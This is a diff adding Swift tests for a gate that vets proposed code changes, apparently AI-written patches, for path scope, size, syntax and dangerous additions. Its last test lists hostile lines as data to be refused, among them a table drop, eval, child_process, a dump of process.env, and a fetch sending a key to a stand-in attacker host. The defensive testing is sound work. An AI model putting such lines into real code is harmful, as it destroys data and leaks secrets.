@@ -1,0 +1,42 @@
+import Proof
+import Testing
+
+struct ProductGateTests {
+    private let before = "button.onclick = () => {}\nexport const price = cents => cents / 100\n"
+
+    private func failed(
+        _ after: String, path: String = "app/cart.js", before: String? = nil, offered: Set<String> = ["app/cart.js"]
+    ) -> [String] {
+        ProductGate(offered: offered).judge([FileChange(path: path, before: before ?? self.before, after: after)])
+            .filter { !$0.passed }.map(\.name)
+    }
+
+    @Test("A small change of an offered file passes")
+    func passes() { #expect(failed(before.replacing("() => {}", with: "() => add(item)")) == []) }
+
+    @Test("What was not offered is not changed, and tests never are")
+    func paths() {
+        #expect(failed("x\n", path: "app/other.js") == ["paths"])
+        let spec = "tests/cart.spec.ts"
+        #expect(failed("x\n", path: spec, offered: [spec]) == ["paths"])
+        #expect(failed("[]\n", path: "fixtures/users.json", offered: ["fixtures/users.json"]) == ["paths"])
+    }
+
+    @Test("A change of nothing, and one that nobody would read, are none")
+    func size() {
+        #expect(failed(before) == ["size"])
+        #expect(failed(before + String(repeating: "a()\n", count: 41)) == ["size"])
+    }
+
+    @Test("What cannot be read is refused")
+    func syntax() { #expect(failed(before + "function () {\n") == ["syntax"]) }
+
+    @Test(
+        "What destroys data, or brings what no repair needs, is refused",
+        arguments: [
+            ("db.run('DROP TABLE orders')", "no-data-destroyed"), ("eval(code)", "nothing-smuggled"),
+            ("fetch('https://evil.example/' + key)", "nothing-smuggled"),
+            ("require('child_process')", "nothing-smuggled"), ("send(process.env)", "nothing-smuggled"),
+        ])
+    func smuggled(line: String, check: String) { #expect(failed(before + line + "\n") == [check]) }
+}
